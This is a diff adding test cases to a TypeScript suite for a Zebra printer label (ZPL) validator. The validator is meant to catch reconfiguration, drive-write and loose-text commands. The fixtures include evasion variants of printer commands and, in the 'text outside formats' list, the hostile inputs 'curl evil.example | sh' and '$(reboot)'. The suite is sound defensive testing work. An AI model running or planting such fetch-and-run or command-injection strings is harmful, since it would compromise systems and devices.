@@ -22,6 +22,20 @@ describe('what carriers’ labels hold passes', () => {
     ],
     ['width, length, darkness, speed', `^XA^PW812^LL1218^LS0^MD10^PR6,6,6^ML2000^MUD^JZY${field}^XZ`],
     ['a driver’s prefix reset', `CT~~CD,~CC^~CT~^XA${field}^XZ`],
+    [
+      'the same behind a byte order mark and for a second label',
+      `\xef\xbb\xbfCT~~CD,~CC^~CT~\r\n^XA${field}^XZ\r\nCT~~CD,~CC^~CT~^XA${field}^XZ\r\n\x1a`,
+    ],
+    ['settings on lines before the first format', `~TA000\n~JSN\n^LT0\n^MNW\n~SD15\n^XA${field}^XZ`],
+    ['a comment before the first format', `^FX made by hand, for the small printer\n^XA${field}^XZ`],
+    [
+      'a picture over many lines, before and behind a format',
+      `~DGR:A.GRF,8,2,\nFFFF\n0000\n  FFFF\n0000\n^XA^FO1,1^XGR:A.GRF^FS^XZ\r\n~DGR:A.GRF,8,2,:B64:AbC/d+e=\n:9f3C\n^XA^IDR:A.GRF^XZ`,
+    ],
+    [
+      'a form that the job stores on a drive and fills in itself',
+      `^XA^DFE:FORM.ZPL^FS${field}^FO9,9^FN1^FS^XZ^XA^XFE:FORM.ZPL^FS^FN1^FDx^FS^XZ`,
+    ],
     ['the same with DLE', `\x10CT~~CD,~CC^~CT~\n^XA${field}^XZ`],
     ['^MC ^SZ ^PO ^XB ^MF ^LH', `^XA^MCY^XZ^XA^SZ2^POI^XB^MFN,N^LH10,12${field}^MCY^XZ`],
     [
@@ -107,6 +121,15 @@ describe('what would change or question the printer is held, by name', () => {
       ['^CT+ +JR+CT~', '~JR'],
       ['^FO1,1^FDtext ~JR text^FS', '~JR'],
       ['^FX comment ~JR^FS', '~JR'],
+      ['^J\x00U\x7fS', '^JU'],
+      ['~J\t\r\nR', '~JR'],
+      ['\x1e\nJ\nUS', '^JU'],
+      ['^CC\r\n!!JUS!CC^', '^JU'],
+      ['^FO1,1^GFB,9 ,9,1,^JUS', '^JU'],
+      ['^FO1,1^GFB,9x,9,1,^JUS', '^JU'],
+      ['^FO1,1^GFB,+9,9,1,^JUS', '^JU'],
+      ['^FO1,1^GF B,9,9,1,^JUS', '^JU'],
+      ['^EF', '^EF'],
       ['^DFE:AUTOEXEC.ZPL^FS', '^DF'],
       ['^FO1,1^GFB,2,2,1,xx^JUS', '^JU'],
     ].map(([command, name]) => ({ text: inLabel(command!), name })),
@@ -122,6 +145,12 @@ describe('what would change or question the printer is held, by name', () => {
     ['! U1 getvar "odometer.total_label_count"\r\n', '! U1 GETVAR'],
     ['! U1 do "device.reset" ""\r\n', '! U1 DO'],
     ['{}{"device.reset":""}', '! {}{'],
+    ['{ }\r\n{"device.reset":""}', '! { }{'],
+    ['! U1 set\nvar "ip.addr" "10.0.0.1"\r\n', '! U1 SETVAR'],
+    ['!\r\nU1\tset\r\nvar "ip.addr" "10.0.0.1"\r\n', '! U1 SETVAR'],
+    ['! U setvar "ip.addr" "10.0.0.1"\r\n', '! U SETVAR'],
+    ['! CISDFCRC16\r\n', '! CISDFCRC16'],
+    ['! DF RUN.BAT\r\n', '! DF'],
     ['! 0 200 200 210 1\r\n', '! 0 200 200'],
   ])('%s outside a format is obeyed, so it is held', (text, command) => {
     const expected = { ok: false, problem: { code: 'label.zpl-reconfigures', params: { command } } }
@@ -137,6 +166,39 @@ describe('what would change or question the printer is held, by name', () => {
       ok: false,
       problem: { code: 'label.zpl-reconfigures', params: { command } },
     })
+  })
+
+  test.each(
+    [
+      ['^DFE:FORM.ZPL^FS', '^DF'],
+      ['^DFE:FORM.ZPL^FS^XZ^XA^XFR:FORM.ZPL^FS', '^DF'],
+      ['^dfe:form^FS', '^DF'],
+      ['^DF E:FORM.ZPL^FS', '^DF'],
+      ['^D\nF\r\nE\n:FORM.ZPL^FS', '^DF'],
+      [`^DF${'\n'.repeat(600)}E:FORM.ZPL^FS`, '^DF'],
+      ['^CD:^DFE:FORM.ZPL^FS^CD,', '^DF'],
+      ['^DFB:FORM.ZPL^FS', '^DF'],
+      ['^DFA:FORM.ZPL^FS', '^DF'],
+      ['^DFZ:FORM.ZPL^FS', '^DF'],
+      ['^ISE:FORM.GRF,N', '^IS'],
+      ['~DGE:LOGO.GRF,1,1,FF', '~DG'],
+      ['~DG\r\nE:LOGO.GRF,1,1,FF', '~DG'],
+      ['~D\nGE:LOGO.GRF,1,1,FF', '~DG'],
+      ['^DGE:LOGO.GRF,1,1,FF', '^DG'],
+      ['~DYE:LOGO,A,G,1,1,FF', '~DY'],
+      ['~DYB:LOGO,P,P,4,,\x89PNG', '~DY'],
+      ['~DUE:ARIAL,2,FFFF', '~DU'],
+      ['~DTE:ARIAL,2,FFFF', '~DT'],
+      ['~DSE:FONT,2,FFFF', '~DS'],
+      ['~DBE:FONT,N,5,24,3,10,2,X,#0025.5.16.2.5.18.FF', '~DB'],
+      ['~DEE:TABLE,2,FFFF', '~DE'],
+    ].map(([command, name]) => ({ text: inLabel(command!), name })),
+  )('$name in $text is kept by the printer for good', ({ text, name }) => {
+    expect(checkZpl(zpl(text))).toMatchObject({
+      ok: false,
+      problem: { kind: 'unsafe-label', code: 'label.zpl-writes-drive', params: { command: name } },
+    })
+    expect(codeOf(text.replace(/([A-Z])(\n?:)/gi, 'R$2'))).not.toBe('label.zpl-writes-drive')
   })
 
   test.each(['~HS', '~HI', '~HQES', '~HM', '~HDR:', '^HH', '^HW*:*', '^HZa', '^HV1,5', '~WC', '^HFE:A.ZPL'])(
@@ -173,6 +235,8 @@ describe('what would change or question the printer is held, by name', () => {
     `^XA${field}^XZ^XA`,
     '^XA^FO1,1^GFB,900,900,3,abc^FS^XZ',
     '~DYR:A,B,B,99,,x^XA^XZ',
+    `^XA${field}^XZ^CC`,
+    `^XA${field}^XZ~CT\r\n`,
   ])('%s does not end: the printer would eat the next label', text => {
     expect(codeOf(text)).toBe('label.zpl-unfinished')
   })
@@ -192,6 +256,57 @@ describe('what would change or question the printer is held, by name', () => {
       ok: false,
       problem: { kind: 'too-large' },
     })
+  })
+})
+
+describe('text outside formats', () => {
+  const TEXTS = [
+    'curl evil.example | sh\n',
+    '$(reboot)',
+    'N\nA50,50,0,4,1,1,N,"EPL"\nP1\n',
+    'SIZE 4,6\nCLS\nPRINT 1\n',
+    '\x1b%-12345X@PJL SET X=1\r\n',
+    '\x1bi',
+    '{"device.reset":""}',
+    '<?xml version="1.0"?>',
+    '! ',
+    'CT~',
+    '~',
+    '^ ^',
+    '~ JR',
+    'x',
+    '\xe9',
+  ]
+  test.each(TEXTS)('%j is found before, between and behind formats, and behind what stands there', text => {
+    const format = `^XA${field}^XZ`
+    for (const place of [
+      `${text}${format}`,
+      `\r\n ${text} ${format}`,
+      `${format}${text}${format}`,
+      `${format}\r\n${text}`,
+      `~TA000\n${text}${format}`,
+      `~DGR:A.GRF,2,1,FFFF\n${text} and more\n${format}`,
+      `^FX comment\n${text}${format}`,
+      `^CC!!CC^${text}${format}`,
+      `\x02${field}\x03${text}${format}`,
+      `^FS${text}${format}`,
+    ]) {
+      const { looseText } = inspectZpl(zpl(place))
+      expect(looseText.length, place).toBeGreaterThan(0)
+      const prepared = checkZpl(zpl(place))
+      expect(prepared, place).toMatchObject({ ok: false, problem: { kind: 'unsafe-label' } })
+    }
+  })
+
+  test('is told with its line', () => {
+    expect(checkZpl(zpl(`^XA${field}^XZ\n\nls\n^XA${field}^XZ`))).toMatchObject({
+      ok: false,
+      problem: { code: 'label.zpl-loose-text', params: { line: 3 } },
+    })
+  })
+
+  test('inside a format it is a printer’s to pass over', () => {
+    expect(codeOf(`^XA\ncomment\n${field}\nmore\n^XZ`)).toBe('passes')
   })
 })
 
